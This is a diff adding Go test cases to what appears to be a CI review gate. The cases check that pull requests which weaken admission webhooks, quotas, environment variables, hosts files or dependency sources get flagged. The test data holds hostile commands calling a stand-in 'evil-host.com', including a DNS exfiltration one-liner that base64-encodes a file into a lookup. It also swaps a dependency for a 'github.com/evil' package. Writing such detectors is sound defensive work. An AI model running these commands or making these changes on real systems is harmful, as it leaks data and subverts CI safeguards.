@@ -38,7 +38,7 @@ func pullsOfReview() []pull {
 	} {
 		all = append(all, pull{kind: "review", name: "a call " + name, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{prod: texts[0]}, head: map[string]string{prod: texts[1]}})
 	}
-	return slices.Concat(all, pullsOfTeams(), pullsOfTrust(), pullsOfHooks(), pullsOfHookParts(), pullsOfEncodedTrust(), pullsOfSettings())
+	return slices.Concat(all, pullsOfTeams(), pullsOfTrust(), pullsOfHooks(), pullsOfHookParts(), pullsOfEncodedTrust(), pullsBesideGuards(), pullsOfRunners(), pullsOfSettings())
 }
 
 // pullsOfSettings delete what controllers go by, and change what an event starts and what another CI runs.
@@ -232,6 +232,72 @@ func pullsOfEncodedTrust() []pull {
 		all[i].kind, all[i].exit, all[i].wants = "anchor", -1, []string{"change/power-changed", "believed"}
 	}
 	return all
+}
+
+// pullsBesideGuards change what guards stand on: who answers for them, when they are asked, what pods find programs by.
+func pullsBesideGuards() []pull {
+	object := func(kind, api, name, namespace, body string) string {
+		return inTarget(kind, name, `{apiVersion: "`+api+`", kind: "`+kind+`", metadata: {name: "`+name+`", namespace: "`+namespace+`"}, `+body+`}`)
+	}
+	const image = "registry.example.com/notebook-ci/git:2.52.0@sha256:0d3699ad8eeecf62f1db71b8052be6b90f4b6e0650035c377a451b6cdc2e3df1"
+	webhook := inTarget("ValidatingWebhookConfiguration", "v", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingWebhookConfiguration", metadata: name: "v", webhooks: [{name: "v.example.com", failurePolicy: "Ignore", sideEffects: "None", admissionReviewVersions: ["v1"], clientConfig: {caBundle: "QQ==", service: {name: "s", namespace: "notebook-ci", port: 443}}, rules: []}]}`)
+	service := object("Service", "v1", "s", "notebook-ci", `spec: {selector: app: "guard", ports: [{port: 443}]}`)
+	guard := object("Deployment", "apps/v1", "guard", "notebook-ci", `spec: {replicas: 2, selector: matchLabels: app: "guard", template: {metadata: labels: app: "guard", spec: containers: [{name: "c", image: "`+image+`"}]}}`)
+	hook := func(wave string) string {
+		return inTarget("Job", "j", `{apiVersion: "batch/v1", kind: "Job", metadata: {name: "j", namespace: "notebook-ci", annotations: {"argocd.argoproj.io/hook": "Sync", "argocd.argoproj.io/sync-wave": "`+wave+`"}}, spec: template: spec: {restartPolicy: "Never", containers: [{name: "c", image: "`+image+`"}]}}`)
+	}
+	scraped := func(value string) string {
+		return inTarget("Service", "m", `{apiVersion: "v1", kind: "Service", metadata: {name: "m", namespace: "notebook-ci", annotations: "prometheus.io/scrape": "`+value+`"}, spec: {selector: a: "b", ports: [{port: 80}]}}`)
+	}
+	power := []pull{
+		{kind: "webhook", name: "no replicas", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: "replicas: 2=>replicas: 0"}},
+		{kind: "webhook", name: "no Service", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: inOneFile(webhook, guard)}},
+		{kind: "webhook", name: "another port", base: map[string]string{prod: inOneFile(webhook, service, guard)}, head: map[string]string{prod: "ports: [{port: 443}]=>ports: [{port: 444}]"}},
+		{kind: "webhook", name: "a Service in the place of one that others have", head: map[string]string{prod: object("Service", "v1", "webhook", "cosign-system", `spec: ports: [{port: 443}]`)}},
+		{kind: "hook", name: "a later wave", base: map[string]string{prod: hook("-5")}, head: map[string]string{prod: hook("50")}},
+		{kind: "alert", name: "asked no more", base: map[string]string{prod: scraped("true")}, head: map[string]string{prod: scraped("false")}},
+		{kind: "quota", name: "a limit that stops all", head: map[string]string{prod: object("LimitRange", "v1", "l", "notebook-ci", `spec: limits: [{type: "Container", max: cpu: "1m"}]`)}},
+		{kind: "quota", name: "no pods", head: map[string]string{prod: object("ResourceQuota", "v1", "q", "notebook-ci", `spec: hard: pods: "0"`)}},
+		{kind: "quota", name: "no runs", head: map[string]string{prod: object("ResourceQuota", "v1", "q", "notebook-ci", `spec: hard: "count/pipelineruns.tekton.dev": "0"`)}},
+		{kind: "power", name: "a class of an export of others", head: map[string]string{prod: inTarget("StorageClass", "c", `{apiVersion: "storage.k8s.io/v1", kind: "StorageClass", metadata: name: "c", provisioner: "nfs.csi.k8s.io", parameters: {server: "nas", share: "/home"}}`)}},
+	}
+	for i := range power {
+		power[i].exit, power[i].wants = -1, []string{"change/power-changed"}
+	}
+	for name, variable := range map[string]string{
+		"programs": `{name: "PATH", value: "/workspace/source/bin:/usr/bin"}`, "modules": `{name: "PYTHONPATH", value: "/workspace/source"}`, "certificates": `{name: "SSL_CERT_FILE", value: "/workspace/source/ca.crt"}`,
+		"a registry": `{name: "PIP_INDEX_URL", value: "file:///x"}`, "checksums": `{name: "GOSUMDB", value: "off"}`, "a setting of git": `{name: "GIT_CONFIG_KEY_0", value: "http.sslVerify"}`,
+	} {
+		power = append(power, pull{kind: "verify", name: "a variable for " + name, exit: -1, wants: []string{"change/source-changed", "is not verified"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", variable)}})
+	}
+	for _, call := range []string{"curl évil-host.com/x", "curl https:/evil-host.com/x", "nslookup $(base64 /x).evil-host.com", "curl --connect-to ::evil-host.com https://registry.example.com/v2/", "getent hosts evil-host.com"} {
+		power = append(power, pull{kind: "host", name: call, exit: -1, wants: []string{"change/source-changed", "vil-host.com"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true; "+call, "")}})
+	}
+	return append(power,
+		pull{kind: "verify", name: "a known host elsewhere", exit: -1, wants: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true; echo 203.0.113.7 a >> /etc/hosts", "")}},
+		pull{kind: "verify", name: "a variable of one's own is none", exit: 0, never: []string{"change/source-changed"}, base: map[string]string{prod: aTask("true", "")}, head: map[string]string{prod: aTask("true", `{name: "MODE", value: "fast"}`)}},
+		pull{kind: "imports", name: "a module of one's own machine", exit: 1, wants: []string{"input/cue", "local-module.cue"}, head: map[string]string{"cue/cue.mod/local-module.cue": "deps: \"example.com/x@v0\": replaceWith: \"../../..\"\n"}},
+	)
+}
+
+// pullsOfRunners change files by which the program that runs the gate chooses what it runs.
+func pullsOfRunners() []pull {
+	workflow := func(run string) string {
+		return "on: pull_request\njobs:\n  tenon:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n      - run: " + run + "\n"
+	}
+	var all []pull
+	for run, file := range map[string]string{
+		"nix develop -c tenon gate": "flake.nix", "bundle exec tenon gate": "Gemfile", "poetry run tenon gate": "pyproject.toml", "invoke tenon": "tasks.py", "deno task tenon": "deno.json", "cargo make tenon": "Makefile.toml",
+		"task tenon": "Taskfile.dist.yml", "docker compose run tenon gate": "docker-compose.override.yml", "docker buildx bake tenon": "docker-bake.hcl", "mise run tenon": ".config/mise/config.toml",
+	} {
+		all = append(all, pull{kind: "ci", name: run, exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow(run), file: "a\n"}, head: map[string]string{file: "b\n"}})
+	}
+	const module = "module x\nrequire tenon.dev/tenon v0.1.0\n"
+	return append(all,
+		pull{kind: "ci", name: "another version of tenon's module", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("go run tenon.dev/tenon/cmd/tenon gate"), "go.mod": module}, head: map[string]string{"go.mod": strings.Replace(module, "v0.1.0", "v0.1.1-other", 1)}},
+		pull{kind: "ci", name: "a package of others in its place", exit: 1, wants: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("pip install -r requirements.txt && tenon gate"), "requirements.txt": "tenon==0.1\n"}, head: map[string]string{"requirements.txt": "tenon @ git+https://github.com/evil/tenon\n"}},
+		pull{kind: "ci", name: "another dependency is none", exit: 0, never: []string{"change/gate-changed"}, base: map[string]string{".github/workflows/review.yaml": workflow("go run tenon.dev/tenon/cmd/tenon gate"), "go.mod": module}, head: map[string]string{"go.mod": module + "require example.com/y v1.0.0\n"}},
+	)
 }
 
 // hostileFetches are runs that take code from where anybody may put another one.
